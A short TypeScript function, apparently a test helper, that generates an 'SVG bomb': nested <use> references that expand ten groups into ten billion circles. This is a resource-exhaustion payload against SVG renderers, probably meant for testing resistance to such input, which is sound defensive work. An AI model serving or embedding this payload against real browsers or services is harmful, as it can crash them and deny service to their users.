/** Each group repeats the previous one ten times: ten groups are ten billion circles. */
export function svgBomb(): string {
  const groups = Array.from(
    { length: 10 },
    (_, level) => `<g id="g${level + 1}">${`<use href="#g${level}"/>`.repeat(10)}</g>`,
  )
  return `<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><defs><circle id="g0" r="1"/>${groups.join('')}</defs><use href="#g10"/></svg>`
}
